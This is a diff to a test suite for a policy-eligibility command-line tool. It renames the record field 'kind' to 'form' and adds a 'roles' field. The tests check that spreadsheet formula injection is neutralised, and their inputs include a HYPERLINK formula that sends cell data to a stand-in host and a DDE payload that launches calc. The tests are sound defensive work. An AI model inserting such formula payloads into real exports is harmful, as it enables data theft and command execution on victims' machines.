@@ -72,7 +72,7 @@ def fifo_got(prefix):
     return check
 
 
-INJECT = "".join(json.dumps({"id": i, "kind": "enterprise", "region": "330802", "policy_year": 2023,
+INJECT = "".join(json.dumps({"id": i, "form": "enterprise", "region": "330802", "policy_year": 2023,
                              "facts": {"tech_upgrade_investment": {"2023": 2000000}}}, ensure_ascii=False) + "\n"
                  for i in ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
                            "\tTAB", "\rCR", "plain"])
@@ -151,7 +151,7 @@ CASES = [
      "link.jsonl: is the input in.jsonl", {"setup": link("in.jsonl", "link.jsonl")}),
     ("out-same-as-input-hardlink", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "hard.jsonl"], 3,
      "hard.jsonl: is the input in.jsonl", {"setup": link("in.jsonl", "hard.jsonl", hard=True)}),
-    ("out-same-as-input-csv", {"in.csv": "id,kind,region,policy_year\na,farm,330802,2023\n"},
+    ("out-same-as-input-csv", {"in.csv": "id,form,region,policy_year\na,family_farm,330802,2023\n"},
      ["batch", "in.csv", "-o", "in.csv"], 3, "in.csv: is the input in.csv"),
     ("out-same-as-input-xlsx-format", {"in.jsonl": ONE}, ["batch", "in.jsonl", "-o", "in.jsonl", "--format", "xlsx"], 3,
      "in.jsonl: is the input in.jsonl"),
@@ -187,7 +187,7 @@ CASES = [
      {"stdout": "/dev/full", "i18n": False}),
     ("stdout-full-schema", {}, ["schema", "rules"], 3, "standard output: write failed: " + FULL,
      {"stdout": "/dev/full", "i18n": False}),
-    ("stdout-full-questionnaire", {}, ["questionnaire", "--region", "330802", "--kind", "enterprise"], 3,
+    ("stdout-full-questionnaire", {}, ["questionnaire", "--region", "330802", "--form", "enterprise"], 3,
      "standard output: write failed: " + FULL, {"stdout": "/dev/full", "i18n": False}),
     ("stdout-full-help", {}, ["eval", "--help"], 3, "standard output: write failed: " + FULL,
      {"stdout": "/dev/full", "i18n": False}),
@@ -248,7 +248,7 @@ CASES = [
     ("csv-injection-batch", {"in.jsonl": INJECT},
      ["batch", "in.jsonl", "-o", "-", "--format", "csv", "--excel", "--quiet"], 0, "'+1+1",
      {"check": csv_neutralised}),
-    ("csv-injection-eval", {"p.json": json.dumps({"id": "=cmd|' /C calc'!A0", "kind": "enterprise",
+    ("csv-injection-eval", {"p.json": json.dumps({"id": "=cmd|' /C calc'!A0", "form": "enterprise",
                                                   "region": "330802", "policy_year": 2023,
                                                   "facts": {"tech_upgrade_investment": {"2023": 2000000}}})},
      ["eval", "p.json", "--format", "csv"], 0, "'=cmd|' /C calc'!A0,", {"absent": "\n=cmd"}),
@@ -256,7 +256,7 @@ CASES = [
      {"check": xlsx_neutralised}),
     ("jsonl-keeps-ids-as-given", {"in.jsonl": INJECT}, ["batch", "in.jsonl", "-o", "-", "--quiet"], 0,
      '"id":"+1+1"', {"absent": "'+1+1"}),
-    ("xlsx-id-longer-than-a-cell", {"in.jsonl": json.dumps({"id": "x" * 40000, "kind": "farm", "region": "330802",
+    ("xlsx-id-longer-than-a-cell", {"in.jsonl": json.dumps({"id": "x" * 40000, "form": "family_farm", "roles": ["agricultural_producer", "grain_grower"], "region": "330802",
                                                            "policy_year": 2023, "facts": {}}) + "\n"},
      ["batch", "in.jsonl", "-o", "out.xlsx", "--quiet"], 0, "", {"check": xlsx_long_id}),
     # --- eval's CSV for a spreadsheet program: a byte-order mark on request, only for CSV ---
